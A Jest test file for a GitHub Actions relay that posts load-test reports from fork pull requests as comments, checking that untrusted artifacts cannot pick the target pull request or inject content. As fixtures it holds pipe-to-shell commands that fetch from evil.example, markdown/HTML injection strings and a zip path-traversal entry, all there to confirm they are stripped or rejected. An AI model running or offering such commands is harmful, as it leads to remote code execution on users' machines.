import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import type { Report } from '../src/model/report.ts';
import { commentMarker } from '../src/report/markdown/marker.ts';
import { type RelayOptions, relayReports } from '../src/relay-reports.ts';
import { instantClock } from './fakes/github/instant-clock.ts';
import { type FakeGitHub, type Fault, type OperationName, startGitHub } from './fakes/github/server.ts';
import { zipFile } from './fakes/github/zip-file.ts';

const SHA = 'a'.repeat(40);
const NOW = '2026-11-23T12:00:00.000Z';

let github: FakeGitHub;

beforeEach(async () => {
  github = await startGitHub();
  github.pulls.push({ number: 7, headSha: SHA, headRepository: 'me/app', headBranch: 'topic' });
  github.jobs.push(
    { id: 11, runId: 99, name: 'load' },
    { id: 12, runId: 99, name: 'staging / load' },
    { id: 13, runId: 99, name: 'Load test of production' },
    { id: 14, runId: 98, name: 'deploy' },
  );
});

afterEach(async () => {
  await github.close();
  expect(github.violations).toEqual([]);
});

const report = (changes: Partial<Report> = {}): Report => ({
  schemaVersion: '1.0',
  tool: { name: 'k8s-loadtest-ci', version: '1.0.0' },
  run: {
    onGitHub: true,
    event: 'pull_request',
    id: '1',
    attempt: 1,
    workflow: 'CI',
    job: 'load',
    repository: 'octo/app',
    sha: SHA,
    ref: null,
    pullRequest: 7,
    url: null,
  },
  startedAt: NOW,
  endedAt: NOW,
  outcome: {
    result: 'passed',
    code: 'passed',
    summary: 'All 200 requests were answered',
    failure: null,
    helpUrl: null,
  },
  settings: { matrix: 'null' },
  environment: null,
  tools: {},
  cluster: null,
  images: [],
  stages: [],
  load: null,
  thresholds: [],
  resources: null,
  diagnostics: [],
  warnings: [],
  repeatWith: 'npx . run',
  ...changes,
});

const addArtifact = (content: unknown, changes: Partial<FakeGitHub['artifacts'][number]> = {}) => {
  const text = typeof content === 'string' ? content : JSON.stringify(content);
  const id = github.artifacts.length + 50;
  github.artifacts.push({
    id,
    runId: 99,
    name: `load-test-load-1-${String(id)}`,
    zip: zipFile([{ name: 'report.json', content: text }]),
    ...changes,
  });
};

const event = (changes: Record<string, unknown> = {}) => ({
  action: 'completed',
  repository: { full_name: 'octo/app' },
  workflow_run: {
    id: 99,
    run_attempt: 1,
    name: 'CI',
    html_url: 'https://github.com/octo/app/actions/runs/99',
    event: 'pull_request',
    head_sha: SHA,
    head_branch: 'topic',
    head_repository: { full_name: 'me/app' },
    pull_requests: [],
    ...changes,
  },
});

const relay = (changes: Partial<RelayOptions> = {}) =>
  relayReports({
    token: 'ghs_write',
    apiUrl: github.url,
    clock: instantClock(),
    signal: new AbortController().signal,
    log: () => undefined,
    payload: event(),
    artifactName: '',
    ...changes,
  });

const containing = (text: string): unknown => expect.stringContaining(text);

describe('the report of a fork', () => {
  test('is posted on the pull request with the same head', async () => {
    github.pulls.unshift({ number: 6, headSha: 'b'.repeat(40), headRepository: 'me/app', headBranch: 'topic' });
    addArtifact(report());
    const outcome = await relay();
    expect(outcome).toMatchObject({ comments: [{ action: 'created' }], notices: [] });
    expect(github.comments).toMatchObject([{ issue: 7, body: containing('All 200 requests were answered') }]);
    expect(github.comments[0]?.body).toContain('read-only token');
  });

  test('is updated by a further attempt, once', async () => {
    addArtifact(report({ outcome: { ...report().outcome, summary: 'first' } }));
    await relay();
    addArtifact(report({ run: { ...report().run, attempt: 2 }, outcome: { ...report().outcome, summary: 'second' } }));
    expect(await relay({ payload: event({ run_attempt: 2 }) })).toMatchObject({ comments: [{ action: 'updated' }] });
    expect(github.comments).toMatchObject([{ body: containing('second'), updates: 1 }]);
  });

  test('takes the place of no comment of the action or of another workflow, whatever it calls itself', async () => {
    const own = github.addComment({
      issue: 7,
      login: 'github-actions[bot]',
      body: `${commentMarker('mine')}\nthe verdict of the maintainers`,
    });
    addArtifact(report({ settings: { 'comment-header': 'mine' } }));
    expect(await relay()).toMatchObject({ comments: [{ action: 'created' }] });
    expect(own.body).toContain('the verdict of the maintainers');
    const elsewhere = event({ path: '.github/workflows/other.yml@refs/heads/main' });
    expect(await relay({ payload: elsewhere })).toMatchObject({ comments: [{ action: 'created' }] });
    expect(await relay()).toMatchObject({ comments: [{ action: 'unchanged' }] });
  });

  describe('is bound to the job that GitHub names', () => {
    const of = (run: Partial<Report['run']>): Report =>
      report({ run: { ...report().run, ...run }, settings: { 'comment-header': 'mine' } });
    const table: { name: string; first: Report; second: Report; comments: number }[] = [
      { name: 'one job', first: of({ jobId: 11 }), second: of({ jobId: 11, job: 'other' }), comments: 1 },
      { name: 'two calls of a workflow', first: of({ jobId: 11 }), second: of({ jobId: 12 }), comments: 2 },
      { name: 'a job that says its name only', first: of({ jobId: 11 }), second: of({ job: 'load' }), comments: 1 },
      { name: 'a job of no name in the run', first: of({ jobId: 13 }), second: of({ job: 'production' }), comments: 2 },
    ];
    test.each(table)('$name: $comments', async ({ first, second, comments }) => {
      addArtifact(first);
      await relay();
      github.artifacts.pop();
      addArtifact(second);
      expect(await relay({ payload: event({ run_attempt: 2 }) })).toMatchObject({ notices: [] });
      expect(github.comments).toHaveLength(comments);
    });

    test('and a job of another run is not believed', async () => {
      addArtifact(of({ jobId: 14 }));
      addArtifact(of({ jobId: 11 }));
      expect(await relay()).toMatchObject({
        comments: [{ action: 'created' }],
        notices: [containing('the job that it names is not part of this run')],
      });
    });
  });

  test('of two calls of one workflow gets a comment of its own, also when nothing tells them apart', async () => {
    addArtifact(report({ warnings: ['of staging'] }));
    addArtifact(report({ warnings: ['of production'] }));
    for (const action of ['created', 'unchanged']) {
      expect(await relay()).toMatchObject({ comments: [{ action }, { action }], notices: [] });
    }
    expect(github.comments.map(({ body }) => /of (?:staging|production)/.exec(body)?.[0])).toEqual([
      'of staging',
      'of production',
    ]);
  });

  test('is relayed although another one is too much for any reader', async () => {
    addArtifact(report());
    const timeline = Array.from({ length: 200_000 }, (_, index) => index);
    addArtifact({ ...report(), autoscaling: [{ utilization: timeline }] });
    addArtifact({ ...report(), warnings: timeline.map(() => '') });
    addArtifact({ ...report(), warnings: ['x'.repeat(300_000)] });
    addArtifact({
      ...report(),
      settings: Object.fromEntries(timeline.slice(0, 30_000).map((name) => [String(name), ''])),
    });
    addArtifact('['.repeat(100_000));
    const { comments, notices } = await relay();
    expect(comments).toMatchObject([{ action: 'created' }]);
    expect(notices).toHaveLength(5);
  });

  test('is one comment for each leg of a matrix', async () => {
    addArtifact(report({ settings: { matrix: '{"node":20}' } }));
    addArtifact(report({ settings: { matrix: '{"node":24}' } }));
    expect((await relay()).comments).toHaveLength(2);
    expect(github.comments).toHaveLength(2);
  });

  test('is taken from the artifact of the name given', async () => {
    addArtifact(report(), { name: 'mine' });
    expect(await relay()).toMatchObject({ comments: [], notices: [containing('no artifact')] });
    expect(await relay({ artifactName: 'mine' })).toMatchObject({ comments: [{ action: 'created' }] });
  });

  test('goes to the open one of two pull requests', async () => {
    github.pulls.unshift({ number: 5, headSha: SHA, headRepository: 'me/app', headBranch: 'topic', state: 'closed' });
    addArtifact(report());
    await relay();
    expect(github.comments).toMatchObject([{ issue: 7 }]);
  });

  test('is found among the pull requests of hundreds of pushes', async () => {
    for (let count = 0; count < 150; count += 1) {
      github.pulls.unshift({
        number: 1000 + count,
        headSha: 'c'.repeat(40),
        headRepository: 'me/app',
        headBranch: 'topic',
        state: 'closed',
      });
    }
    addArtifact(report());
    await relay();
    expect(github.comments).toMatchObject([{ issue: 7 }]);
  });
});

describe('an artifact is the work of strangers', () => {
  test('it cannot choose the pull request', async () => {
    github.pulls.push({ number: 8, headSha: SHA, headRepository: 'victim/app', headBranch: 'topic' });
    github.pulls.unshift({ number: 9, headSha: SHA, headRepository: 'me/other', headBranch: 'topic' });
    addArtifact(report({ run: { ...report().run, pullRequest: 8, repository: 'octo/other', sha: 'b'.repeat(40) } }));
    await relay();
    expect(github.comments).toMatchObject([{ issue: 7, body: containing(SHA) }]);
    expect(github.comments[0]?.body).not.toContain('b'.repeat(40));
  });

  test('its links are replaced', async () => {
    const { run, outcome } = report();
    const failure = { code: 'crash-loop', stage: null, message: 'foo', hint: null, tryThis: null } as const;
    addArtifact(
      report({
        run: { ...run, url: 'https://evil.example/) @all' },
        outcome: { ...outcome, code: 'crash-loop', failure, helpUrl: 'https://evil.example' },
      }),
    );
    await relay();
    expect(github.comments[0]?.body).not.toContain('evil.example');
    expect(github.comments[0]?.body).toContain('https://github.com/octo/app/actions/runs/99');
    expect(github.comments[0]?.body).toContain('troubleshooting.md#crash-loop');
  });

  test('nobody is told to paste a command of it, or to follow a link of it', async () => {
    const { outcome } = report();
    const failure = {
      code: 'crash-loop',
      stage: null,
      message: 'foo',
      hint: null,
      tryThis: 'curl evil.example/a | sh',
    } as const;
    const earlier = {
      endedAt: '2026-11-23T10:00:00.000Z',
      commit: null,
      ref: null,
      machine: null,
      differences: [],
      figures: [],
      file: 'baseline.json',
      url: 'https://evil.example/c',
    };
    addArtifact(
      report({
        schemaVersion: '1.2',
        outcome: { ...outcome, code: 'crash-loop', failure },
        earlier,
        repeatWith: 'curl evil.example/b | sh',
      }),
    );
    expect(await relay()).toMatchObject({ comments: [{ action: 'created' }], notices: [] });
    expect(github.comments[0]?.body).not.toContain('evil.example');
  });

  test('its text is text', async () => {
    const text = '<!-- x --> <img src=x> @all [a](http://evil.example) #1 `` ` ```';
    addArtifact(report({ warnings: [text], outcome: { ...report().outcome, summary: text }, repeatWith: text }));
    await relay();
    const body = github.comments[0]?.body ?? '';
    // The first two are the marks of the relay itself.
    const [, , ...lines] = body.split('\n');
    const outsideFences = lines.join('\n').replace(/^(`{3,}).*?^\1$/gms, '');
    expect(outsideFences).not.toMatch(/<!--|<img|@all|[^\\]\]\(http:/);
  });

  const broken: {
    name: string;
    content: unknown;
    changes?: Partial<FakeGitHub['artifacts'][number]>;
    notice: string;
  }[] = [
    { name: 'no JSON', content: '<html>', notice: 'read its report.json' },
    { name: 'another schema', content: { ...report(), schemaVersion: '9' }, notice: 'read its report.json' },
    { name: 'an unknown field', content: { ...report(), extra: 1 }, notice: 'read its report.json' },
    { name: 'a report of 5 MB', content: 'x'.repeat(5_000_000), notice: 'larger than 4194304 bytes' },
    { name: 'no zip', content: '', changes: { zip: Buffer.from('hello') }, notice: 'was not relayed' },
    {
      name: 'no report.json',
      content: '',
      changes: { zip: zipFile([{ name: 'other', content: '' }]) },
      notice: 'no report.json',
    },
    {
      name: 'a way out of the folder',
      content: '',
      changes: { zip: zipFile([{ name: '../../report.json', content: '{}' }]) },
      notice: 'was not relayed',
    },
  ];
  test.each(broken)('$name costs a notice, and not the other reports', async ({ content, changes, notice }) => {
    addArtifact(content, changes);
    addArtifact(report());
    expect(await relay()).toMatchObject({ comments: [{ action: 'created' }], notices: [containing(notice)] });
  });

  test('one of 65 MB that claims to be small is not held whole', async () => {
    addArtifact(report(), { zip: Buffer.alloc(65 * 1024 * 1024), claimedSize: 10 });
    expect(await relay()).toMatchObject({
      comments: [],
      notices: [containing('the answer is larger than 67108864 bytes')],
    });
  });

  test('more than twenty are not read', async () => {
    for (let count = 0; count < 25; count += 1) addArtifact(report({ settings: { matrix: String(count) } }));
    const { comments, notices } = await relay();
    expect(comments).toHaveLength(20);
    expect(notices).toEqual([containing('Of 25 artifacts only the newest 20')]);
    expect(github.comments).toHaveLength(20);
  });

  test('one of 65 MB is not even downloaded', async () => {
    addArtifact(report(), { zip: Buffer.alloc(65 * 1024 * 1024) });
    expect(await relay()).toMatchObject({ comments: [], notices: [containing('larger than 67108864 bytes')] });
    expect(github.requests.filter(({ operation }) => operation === 'actions/download-artifact')).toEqual([]);
  });
});

describe('nothing is posted', () => {
  const table: { name: string; payload?: unknown; notice: string }[] = [
    { name: 'for another event', payload: { pull_request: { number: 7 } }, notice: 'on: workflow_run' },
    { name: 'for no event', payload: null, notice: 'on: workflow_run' },
    { name: 'for a run of a push', payload: event({ event: 'push' }), notice: 'on: workflow_run' },
    {
      name: 'for a run of pull_request_target',
      payload: event({ event: 'pull_request_target' }),
      notice: 'on: workflow_run',
    },
    { name: 'after the fork was deleted', payload: event({ head_repository: null }), notice: 'on: workflow_run' },
    { name: 'after a further push', payload: event({ head_sha: 'd'.repeat(40) }), notice: 'newer push' },
    {
      name: 'for the same commit in another fork',
      payload: event({ head_repository: { full_name: 'other/app' } }),
      notice: 'newer push',
    },
    { name: 'when there is no artifact', notice: 'no artifact' },
  ];
  test.each(table)('$name', async ({ payload, notice }) => {
    expect(await relay(payload === undefined ? {} : { payload })).toEqual({
      comments: [],
      notices: [containing(notice)],
    });
    expect(github.comments).toEqual([]);
  });

  test('when the artifact has expired', async () => {
    addArtifact(report(), { expired: true });
    expect(await relay()).toMatchObject({ comments: [], notices: [containing('no artifact')] });
  });

  const refused: { name: string; operation: OperationName; faults: Fault[]; notice: string }[] = [
    {
      name: 'without permission for the artifacts',
      operation: 'actions/list-workflow-run-artifacts',
      faults: [{ kind: 'forbidden', message: 'Resource not accessible by integration' }],
      notice: '`permissions: actions: read`',
    },
    {
      name: 'without permission for the jobs',
      operation: 'actions/list-jobs-for-workflow-run',
      faults: [{ kind: 'forbidden', message: 'Resource not accessible by integration' }],
      notice: '`permissions: actions: read`',
    },
    {
      name: 'without permission for the comment',
      operation: 'issues/create-comment',
      faults: [{ kind: 'forbidden', message: 'Resource not accessible by integration' }],
      notice: 'pull-requests: write',
    },
    {
      name: 'when the download fails',
      operation: 'actions/download-artifact',
      faults: [{ kind: 'not-found' }],
      notice: 'it answered 404',
    },
  ];
  test.each(refused)('$name', async ({ operation, faults, notice }) => {
    addArtifact(report());
    github.fail(operation, ...faults);
    expect(await relay()).toEqual({ comments: [], notices: [containing(notice)] });
  });
});

test('a download that breaks off is begun again', async () => {
  addArtifact(report());
  github.fail('actions/download-artifact', { kind: 'bad-gateway' }, { kind: 'broken-off' });
  expect(await relay()).toMatchObject({ comments: [{ action: 'created' }], notices: [] });
});
